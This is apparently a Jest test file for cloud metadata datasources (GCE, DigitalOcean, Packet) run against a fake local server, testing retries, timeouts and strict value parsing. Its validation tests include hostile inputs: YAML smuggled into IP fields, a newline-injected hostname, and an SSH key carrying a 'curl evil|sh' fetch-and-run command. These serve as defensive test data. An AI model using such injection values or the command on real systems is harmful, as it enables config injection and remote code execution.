/** The GCE, DigitalOcean and Packet datasources against a loopback stand-in that answers as each cloud does. */
import { digitaloceanMetadata, digitaloceanSource } from '../../src/datasource/digitalocean';
import { gceSource } from '../../src/datasource/gce';
import { fetchWithRetry } from '../../src/datasource/http';
import type { RetryPolicy } from '../../src/datasource/http';
import { packetMetadata, packetSource } from '../../src/datasource/packet';
import type { Datasource } from '../../src/datasource/types';
import { FakeMetadata, cloudKey as key, digitaloceanDocument, gceInstance, packetDocument } from '../support/fake-metadata';
import type { CloudSettings } from '../support/fake-metadata';

const fast: RetryPolicy = { timeoutMs: 300, attempts: 6, backoffMs: 10, maxBackoffMs: 50, deadlineMs: 5_000 };
const userData = '#cloud-config\ncoreos:\n  etcd2:\n    advertise_client_urls: http://$private_ipv4:2379\n';

interface Cloud {
  name: string;
  source: (url: string, policy: RetryPolicy) => Datasource;
  settings: (userData?: string) => CloudSettings;
  /** The paths of the user data and of the metadata document (or a value), relative to the service's URL. */
  userDataPath: string;
  metadataPath: string;
  /** The metadata expected, as plain values. */
  metadata: object;
}

const clouds: Cloud[] = [
  {
    name: 'gce',
    source: gceSource,
    settings: (u) => ({ gce: { userData: u, instance: gceInstance } }),
    userDataPath: 'computeMetadata/v1/instance/attributes/user-data',
    metadataPath: 'computeMetadata/v1/instance/network-interfaces/0/ip',
    metadata: { instanceId: gceInstance.id, hostname: gceInstance.hostname, privateIpv4: '10.128.0.5', publicIpv4: '203.0.113.7', sshPublicKeys: [] },
  },
  {
    name: 'digitalocean',
    source: digitaloceanSource,
    settings: (u) => ({ digitalocean: { userData: u, metadata: digitaloceanDocument } }),
    userDataPath: 'metadata/v1/user-data',
    metadataPath: 'metadata/v1.json',
    metadata: {
      instanceId: '2756294',
      hostname: 'droplet-1',
      privateIpv4: '10.132.255.113',
      publicIpv4: '203.0.113.20',
      publicIpv6: '2001:0DB8:0800:0010:0000:0000:017D:2001',
      sshPublicKeys: [key],
    },
  },
  {
    name: 'packet',
    source: packetSource,
    settings: (u) => ({ packet: { userData: u, metadata: packetDocument } }),
    userDataPath: 'userdata',
    metadataPath: 'metadata',
    metadata: { instanceId: packetDocument.id, hostname: 'metal-1', publicIpv4: '203.0.113.11', privateIpv4: '10.88.1.3', publicIpv6: '2001:db8:1::3', sshPublicKeys: [key] },
  },
];

let servers: FakeMetadata[] = [];
async function serve(settings: CloudSettings) {
  const s = new FakeMetadata({}, undefined, settings);
  await s.start();
  servers.push(s);
  return s;
}
afterEach(async () => {
  await Promise.all(servers.map((s) => s.stop()));
  servers = [];
});

describe.each(clouds)('$name', (cloud) => {
  test('user data and metadata, each value typed as the cloud gave it', async () => {
    const s = await serve(cloud.settings(userData));
    expect(await cloud.source(s.url, fast).fetch()).toEqual({ source: cloud.name, location: `${s.url}${cloud.userDataPath}`, userData: Buffer.from(userData), metadata: cloud.metadata });
    expect(s.requests.every((r) => r.method === 'GET' && r.status === 200)).toBe(true);
  });

  test('no user data (404) is not an error: the metadata still comes', async () => {
    const s = await serve(cloud.settings(undefined));
    expect(await cloud.source(s.url, fast).fetch()).toEqual({ source: cloud.name, location: `${s.url}${cloud.userDataPath}`, userData: undefined, noUserData: 'the server answered 404 (not found)', metadata: cloud.metadata });
  });

  test('another cloud here: not this source', async () => {
    const other = clouds.find((c) => c !== cloud)!;
    const s = await serve(other.settings(userData));
    expect(await cloud.source(s.url, fast).fetch()).toBeUndefined();
  });

  test.each(['500', 'slow', 'reset', 'truncate'] as const)('retries through %s answers and gets the data intact', async (failure) => {
    const s = await serve(cloud.settings(userData));
    s.failures = [failure, failure];
    const got = await cloud.source(s.url, fast).fetch();
    expect(got?.userData?.toString()).toBe(userData);
    expect(got?.metadata).toEqual(cloud.metadata);
  });

  test.each([
    ['user data', 'userDataPath'],
    ['metadata', 'metadataPath'],
  ] as const)('%s: a truncated body every time is an error, never short data', async (_what, path) => {
    const s = await serve(cloud.settings(userData));
    s.alwaysFail.set(cloud[path], 'truncate');
    await expect(cloud.source(s.url, fast).fetch()).rejects.toThrow(/got \d+ of \d+ bytes|closed before the whole body/);
  });

  test('an answer slower than the deadline: given up at the deadline, naming the URL', async () => {
    const s = await serve(cloud.settings(userData));
    s.alwaysFail.set(cloud.userDataPath, 'slow'); // 3 s each time
    const started = Date.now();
    await expect(cloud.source(s.url, { ...fast, attempts: 1000, deadlineMs: 1_000 }).fetch()).rejects.toThrow(
      new RegExp(`^${s.url}${cloud.userDataPath}: no complete answer within \\d+ ms \\(gave up after retrying\\)$`),
    );
    expect(Date.now() - started).toBeLessThan(10_000); // 1000 attempts of 300 ms each, without the deadline
  });

  test('500 every time: given up after the attempts', async () => {
    const s = await serve(cloud.settings(userData));
    s.alwaysFail.set(cloud.userDataPath, '500');
    await expect(cloud.source(s.url, { ...fast, attempts: 3 }).fetch()).rejects.toThrow(/HTTP 500 \(gave up after retrying\)/);
    expect(s.requests.filter((r) => r.path === cloud.userDataPath).length).toBe(3);
  });
});

describe('GCE: Metadata-Flavor: Google', () => {
  test('every request carries it, the availability probe first', async () => {
    const s = await serve(clouds[0]!.settings(userData));
    await gceSource(s.url, fast).fetch();
    expect(s.requests[0]?.path).toBe('computeMetadata/v1/');
    expect(s.requests.map((r) => r.flavor)).toEqual(s.requests.map(() => 'Google'));
  });

  test('the stand-in refuses a request without it, as Google does: 403, final', async () => {
    const s = await serve(clouds[0]!.settings(userData));
    await expect(fetchWithRetry({ url: `${s.url}computeMetadata/v1/instance/attributes/user-data` }, fast)).rejects.toMatchObject({ status: 403, retryable: false });
    expect(s.requests).toEqual([expect.objectContaining({ status: 403, flavor: undefined })]);
  });

  test('an instance without an external address (empty) has no public IPv4', async () => {
    const s = await serve({ gce: { userData, instance: { ...gceInstance, 'network-interfaces/0/access-configs/0/external-ip': '' } } });
    const got = await gceSource(s.url, fast).fetch();
    expect(got?.metadata).toEqual({ ...clouds[0]!.metadata, publicIpv4: undefined });
    expect(got?.metadata).not.toHaveProperty('publicIpv4');
  });
});

describe('metadata values are parsed into their type, or refused naming the source and field', () => {
  const injection = '10.0.0.1"\nwrite_files:\n  - path: /etc/injected\n    content: x\n#';

  test.each([
    ['hostname', 'node\n127.0.0.1 bank', /^gce metadata service: instance\/hostname: not a host name \(it holds "\\n"/],
    ['network-interfaces/0/ip', injection, /^gce metadata service: instance\/network-interfaces\/0\/ip: not an IP address: "10\.0\.0\.1\\"\\nwrite_files/],
    ['network-interfaces/0/access-configs/0/external-ip', '2001:db8::7', /instance\/network-interfaces\/0\/access-configs\/0\/external-ip: not an IPv4 address/],
    ['id', '45 20', /instance\/id: not an instance id/],
  ])('GCE: a hostile %s', async (path, value, message) => {
    const s = await serve({ gce: { userData, instance: { ...gceInstance, [path]: value } } });
    await expect(gceSource(s.url, fast).fetch()).rejects.toThrow(message);
  });

  const doc = digitaloceanDocument;
  const firstPublic = doc.interfaces.public[0]!;
  const withPublic = (change: object) => ({ ...doc, interfaces: { ...doc.interfaces, public: [{ ...firstPublic, ...change }] } });
  test.each([
    ['not JSON', '{"hostname": "a"', /^digitalocean metadata service: metadata\/v1\.json: not valid JSON: /],
    ['a JSON list', '[]', /^digitalocean metadata service: metadata\/v1\.json: not an object but a list$/],
    ['a hostname that is a list', { ...doc, hostname: ['a'] }, /^digitalocean metadata service: metadata\/v1\.json hostname: not a string but a list$/],
    ['a hostname with a space', { ...doc, hostname: 'a b' }, /metadata\/v1\.json hostname: not a host name/],
    ['an address with YAML after it', withPublic({ ipv4: { ip_address: injection } }), /^digitalocean metadata service: metadata\/v1\.json interfaces\.public\[0\]\.ipv4\.ip_address: not an IP address: "10\.0\.0\.1\\"/],
    ['an IPv6 address as ipv4', withPublic({ ipv4: { ip_address: '2001:db8::1' } }), /interfaces\.public\[0\]\.ipv4\.ip_address: not an IPv4 address/],
    ['an address that is a number', withPublic({ ipv6: { ip_address: 20010 } }), /interfaces\.public\[0\]\.ipv6\.ip_address: not a string but a number/],
    ['interfaces that are a list', { ...doc, interfaces: [] }, /metadata\/v1\.json interfaces: not an object but a list/],
    ['two keys in one entry', { ...doc, public_keys: [`${key}\n${key}`] }, /metadata\/v1\.json public_keys\[0\]: an SSH key is one line/],
    ['a key that is no key', { ...doc, public_keys: [key, 'command="curl evil|sh" nothing'] }, /public_keys\[1\]: not an SSH public key/],
    ['keys that are one string', { ...doc, public_keys: key }, /public_keys: not a list but a string/],
    ['101 keys', { ...doc, public_keys: Array.from({ length: 101 }, () => key) }, /public_keys: 101 keys, more than 100/],
    ['a droplet id that is text', { ...doc, droplet_id: '1 2' }, /droplet_id: not a number but a string/],
    ['a droplet id that is no whole number', { ...doc, droplet_id: 1.5 }, /droplet_id: not a droplet id: 1\.5$/],
  ])('DigitalOcean: %s', (_name, given, message) => {
    expect(() => digitaloceanMetadata(Buffer.from(typeof given === 'string' ? given : JSON.stringify(given)))).toThrow(message);
  });

  const pk = packetDocument;
  const withAddress = (change: object) => ({ ...pk, network: { ...pk.network, addresses: [{ ...pk.network.addresses[0]!, ...change }] } });
  test.each([
    ['JSON null', 'null', /^packet metadata service: metadata: not a JSON object: "null"$/],
    ['an address with YAML after it', withAddress({ address: injection }), /^packet metadata service: metadata network\.addresses\[0\]\.address: not an IP address: "10\.0\.0\.1\\"/],
    ['an IPv4 address in family 6', withAddress({ address_family: 6, address: '10.0.0.1' }), /network\.addresses\[0\]\.address: not an IPv6 address/],
    ['a family that is neither 4 nor 6', withAddress({ address_family: 5 }), /network\.addresses\[0\]\.address_family: not 4 or 6: 5$/],
    ['a family that is text', withAddress({ address_family: '4' }), /network\.addresses\[0\]\.address_family: not a number but a string/],
    ['a public flag that is text', withAddress({ public: 'yes' }), /network\.addresses\[0\]\.public: not a boolean but a string/],
    ['addresses that are an object', { ...pk, network: { addresses: {} } }, /network\.addresses: not a list but an object/],
    ['a hostname with a newline', { ...pk, hostname: 'metal\n1' }, /^packet metadata service: metadata hostname: not a host name/],
    ['an id with a space', { ...pk, id: 'a b' }, /metadata id: not an instance id/],
    ['a key with a newline', { ...pk, ssh_keys: [`${key}\nssh-rsa AAAA x`] }, /metadata ssh_keys\[0\]: an SSH key is one line/],
  ])('Packet: %s', (_name, given, message) => {
    expect(() => packetMetadata(Buffer.from(typeof given === 'string' ? given : JSON.stringify(given)))).toThrow(message);
  });

  test('DigitalOcean and Packet: a refused value fails the fetch, through the stand-in', async () => {
    const s = await serve({ digitalocean: { userData, metadata: withPublic({ ipv4: { ip_address: injection } }) }, packet: { userData, metadata: withAddress({ address: injection }) } });
    await expect(digitaloceanSource(s.url, fast).fetch()).rejects.toThrow(/interfaces\.public\[0\]\.ipv4\.ip_address: not an IP address/);
    await expect(packetSource(s.url, fast).fetch()).rejects.toThrow(/network\.addresses\[0\]\.address: not an IP address/);
  });

  test('absent and null fields are no values; the first address of each kind is taken', () => {
    expect(digitaloceanMetadata(Buffer.from('{"hostname": null, "interfaces": {"public": [], "private": null}}'))).toEqual({ sshPublicKeys: [] });
    const got = packetMetadata(Buffer.from(JSON.stringify({ network: { addresses: [{ address_family: 4, address: '10.0.0.1' }, { address_family: 4, public: false, address: '10.0.0.2' }] } })));
    expect(got).toEqual({ privateIpv4: '10.0.0.1', sshPublicKeys: [] });
  });
});
